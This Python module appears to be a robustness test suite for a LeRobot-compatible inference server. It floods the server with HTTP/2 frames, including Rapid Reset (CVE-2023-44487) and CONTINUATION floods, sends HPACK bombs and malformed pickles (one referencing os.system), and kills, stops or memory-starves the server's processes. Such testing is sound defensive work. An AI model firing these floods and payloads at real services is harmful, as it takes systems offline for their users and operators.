# SPDX-FileCopyrightText: The vla.cpp authors
# SPDX-License-Identifier: Apache-2.0
"""Attacks on LeRobot's protocol: floods of HTTP/2 frames, pickles that are large for their bytes or of odd arrays, robots that
come and go, and a door process that dies, stops or gets no memory."""

import argparse
import contextlib
import itertools
import os
import re
import resource
import select
import signal
import threading
import time
from pathlib import Path

import http2
import lerobot_calls
import lerobot_pickles
import numpy as np

from .peers import ATTACKER, again_and_again, connect, scene, send, silent, spec_of

BEGIN = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0)
CALL = http2.headers("/transport.AsyncInference/GetActions")
PRIORITY, CONTINUATION = 2, 9
NO_ERROR, CANCEL = bytes(4), b"\0\0\0\x08"
ODD_DTYPES = ("f2", "f4", "f8", "c8", "c16", "i1", "i2", "i4", "i8", "u1", "u2", "u4", "u8", "b1", "U4", "S4", "V4", "M8[s]")


def at_door(target):
    return argparse.Namespace(address=target.lerobot)


def pour(target, batches, begin=BEGIN, reads=True):
    """A connection that sends one batch after the other as fast as they are taken, and reads what comes, or nothing."""
    with connect(at_door(target), begin) as raw:
        raw.setblocking(False)
        for batch in batches:
            rest = memoryview(batch)
            while rest:
                readable, writable, _ = select.select([raw] if reads else [], [raw], [], 5)
                if readable and not raw.recv(1 << 16):
                    return
                if writable:
                    rest = rest[raw.send(rest) :]


def rapid_reset(target):
    """Calls that are begun and reset at once, as many as go (CVE-2023-44487)."""

    def resets():
        for first in range(1, 1 << 30, 400):
            yield b"".join(
                http2.frame(http2.HEADERS, http2.END_HEADERS, n, CALL) + http2.frame(http2.RST_STREAM, 0, n, CANCEL)
                for n in range(first, first + 400, 2)
            )

    again_and_again(*[lambda: pour(target, resets())] * 6, *[lambda: pour(target, resets(), reads=False)] * 2)


def continuations(target):
    """One head of a call that never ends (CVE-2024-27316), in large pieces, and in empty ones."""
    name = b"\x00\x7f" + b"\x81\x7e" + b"x" * 16381 + b"\x00"  # a literal of 16,509 bytes, without a value
    large = http2.frame(CONTINUATION, 0, 1, name[:16384])
    begin = BEGIN + http2.frame(http2.HEADERS, 0, 1, CALL)
    again_and_again(
        *[lambda: pour(target, itertools.repeat(large * 16), begin)] * 4,
        *[lambda: pour(target, itertools.repeat(http2.frame(CONTINUATION, 0, 1) * 1000), begin)] * 2,
    )


def pings(target):
    one = http2.frame(http2.PING, 0, 0, bytes(8)) * 1000
    again_and_again(*[lambda: pour(target, itertools.repeat(one), reads=False)] * 4, *[lambda: pour(target, itertools.repeat(one))] * 4)


def settings(target):
    one = http2.frame(http2.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 1000
    again_and_again(*[lambda: pour(target, itertools.repeat(one), reads=False)] * 4, *[lambda: pour(target, itertools.repeat(one))] * 4)


def empty_data(target):
    """Pieces of an observation that have no bytes, and no end."""
    begin = BEGIN + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.headers("/transport.AsyncInference/SendObservations"))
    one = http2.frame(http2.DATA, 0, 1) * 1000
    again_and_again(*[lambda: pour(target, itertools.repeat(one), begin)] * 8)


def window_updates(target):
    begin = BEGIN + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, CALL)
    one = (http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1") + http2.frame(http2.WINDOW_UPDATE, 0, 1, b"\0\0\0\1")) * 500
    again_and_again(*[lambda: pour(target, itertools.repeat(one), begin)] * 8)


def priorities(target):
    one = b"".join(http2.frame(PRIORITY, 0, n, b"\0\0\0\0\x10") for n in range(1, 2001, 2))
    again_and_again(*[lambda: pour(target, itertools.repeat(one))] * 4)


def table_bombs(target):
    """Heads of calls that name a field of 3.9 kB from the table of HPACK again and again, a byte each."""
    field = b"\x40\x01x\x7f" + http2_length(3900) + b"y" * 3900
    calls = [http2.frame(http2.HEADERS, http2.END_HEADERS, 1, CALL + field)]
    calls += [http2.frame(http2.HEADERS, http2.END_HEADERS, n, CALL + b"\xbe" * 16000) for n in range(3, 201, 2)]
    again_and_again(*[lambda: pour(target, [*calls, *itertools.repeat(http2.frame(http2.PING, 0, 0, bytes(8)), 50)])] * 4)


def http2_length(n):
    """What follows seven bits of ones in HPACK's integers."""
    n, out = n - 127, b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def calls(target):
    """Calls begun and reset, pieces that stay half, pickles that are deep or would execute, connections that are silent."""
    resets = b"".join(
        http2.frame(http2.HEADERS, http2.END_HEADERS, n, CALL) + http2.frame(http2.RST_STREAM, 0, n, NO_ERROR)
        for n in range(1, 401, 2)
    )
    bomb = b"\x80\x04\x8c\x02os\x8c\x06system\x93."
    bodies = [b"\x80\x04" + b"(" * 100_000, b"\x80\x04" + b"]q\x00" * 30_000, bytes(1_000_000), bomb]

    def pickles():
        with lerobot_calls.Peer(target.lerobot, ATTACKER) as peer:
            for body in itertools.cycle(bodies):
                peer.setup(body)
                time.sleep(0.05)

    def halves():
        with lerobot_calls.Peer(target.lerobot, ATTACKER) as peer:
            for _ in peer.half(30_000_000):
                time.sleep(0.3)
            peer.wait()

    def half_messages():
        with lerobot_calls.Peer(target.lerobot, ATTACKER) as peer:
            for _ in range(16):
                peer.half_message(1_900_000)
            peer.wait()

    def begun():
        with lerobot_calls.Peer(target.lerobot, ATTACKER) as peer:
            for _ in range(16):
                peer.begin("SendObservations")
            peer.wait()

    door = at_door(target)
    again_and_again(
        *[halves] * 20,
        *[half_messages] * 20,
        *[begun] * 20,
        *[pickles] * 2,
        *[lambda: silent(door, b"")] * 100,
        *[lambda: silent(door, http2.PREFACE[:10])] * 100,
        *[lambda: silent(door, BEGIN)] * 100,
        lambda: send(door, BEGIN, [resets], pause=0.05),
    )


def robot_of(target, reverse=False):
    """A setup, and an observation that goes with it."""
    spec = spec_of(target)
    images, _ = scene(spec, 1)
    cameras = {name.removeprefix("observation.images."): frame for name, frame in images.items()}
    motors = list(spec.states[0].names)
    motors = motors[::-1] if reverse else motors
    seen = {**dict.fromkeys(motors, 0.1), **cameras, "task": "go"}
    return lerobot_pickles.dumps(lerobot_pickles.setup_of(motors, cameras)), seen


def observation(seen):
    return lerobot_pickles.dumps(lerobot_pickles.TimedObservation(0.0, 0, seen, True))


def short_connections(target):
    """300 robots at a time that connect, say what they are, and go."""
    setup, _ = robot_of(target)

    def one():
        with lerobot_calls.Peer(target.lerobot, ATTACKER) as peer:
            peer.setup(setup)
        time.sleep(0.1)

    again_and_again(*[one] * 300)


def many_values(target):
    """250 connections with one pickle of 65 kB each, whose values take a hundred times that, or are as many as are read."""
    setup, _ = robot_of(target)
    bodies = [b"\x80\x04](" + b"N" * 65_000 + b"e.", b"\x80\x04](" + b"J\xff\xff\xff\x7f" * 13_000 + b"e."]

    def one(body, is_setup):
        with lerobot_calls.Peer(target.lerobot, ATTACKER) as peer:
            peer.setup(body if is_setup else setup)
            if not is_setup:
                peer.observe(body)
            peer.wait()

    again_and_again(*[lambda n=n: one(bodies[n // 2 % 2], n % 2) for n in range(250)])


def odd_arrays(target):
    """Frames and states of every type of NumPy; frames that are large, so that what lies beyond one is another's memory."""
    setup, seen = robot_of(target)
    seen = {name: np.zeros((400, 400, 3), np.uint8) if isinstance(value, np.ndarray) else value for name, value in seen.items()}
    bodies = []
    for (name, dtype), order in itertools.product(itertools.product(reversed(seen), ODD_DTYPES), "<>"):
        if name != "task":
            bodies.append(observation({**seen, name: np.zeros(np.shape(seen[name]), np.dtype(dtype).newbyteorder(order))}))

    def one(asks):
        with lerobot_calls.Peer(target.lerobot, ATTACKER) as peer:
            peer.setup(setup)
            for body in itertools.cycle(bodies):
                peer.observe(body)
                if asks:
                    peer.actions()

    again_and_again(*[lambda n=n: one(n % 2) for n in range(8)])


def crosswise(target):
    """Robots of one address whose joints are in other orders, that reconnect and act without saying again who they are."""
    robots = [(setup, observation(seen)) for setup, seen in (robot_of(target), robot_of(target, reverse=True))]

    def both():
        peers = [lerobot_calls.Peer(target.lerobot, ATTACKER) for _ in robots]
        for peer, (setup, seen) in zip(peers, robots):
            peer.setup(setup)
            peer.act(seen)
        [peer.__exit__() for peer in peers]
        for _, seen in reversed(robots):
            with lerobot_calls.Peer(target.lerobot, ATTACKER) as again:
                again.act(seen)

    again_and_again(*[both] * 4)


# --- the door's own process --------------------------------------------------------------------------------------------------


def children_of(pid):
    """The processes that the server started."""
    found = []
    for status in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError, IndexError):
            if int(status.read_text().rpartition(")")[2].split()[1]) == pid:
                found.append(int(status.parent.name))
    return found


def each_door(target, act):
    """Does it to the server's processes for --lerobot, and again to those that took their place and lived for ten seconds: they are
    started at once then."""
    done = set()
    time.sleep(1.5)  # robots are at work
    while True:
        for pid in set(children_of(int(target.pid))) - done:
            done.add(pid)
            with contextlib.suppress(OSError):
                act(pid)
        time.sleep(12)


def door_killed(target):
    each_door(target, lambda pid: os.kill(pid, signal.SIGKILL))


def door_stopped(target):
    each_door(target, lambda pid: os.kill(pid, signal.SIGSTOP))


def door_without_memory(target):
    """4 MB more than it has, and those who want more."""

    def one(pid):
        data = int(re.search(r"VmData:\s+(\d+)", Path(f"/proc/{pid}/status").read_text())[1])
        resource.prlimit(pid, resource.RLIMIT_DATA, ((data + 4096) << 10,) * 2)

    threading.Thread(target=many_values, args=(target,), daemon=True).start()
    each_door(target, one)
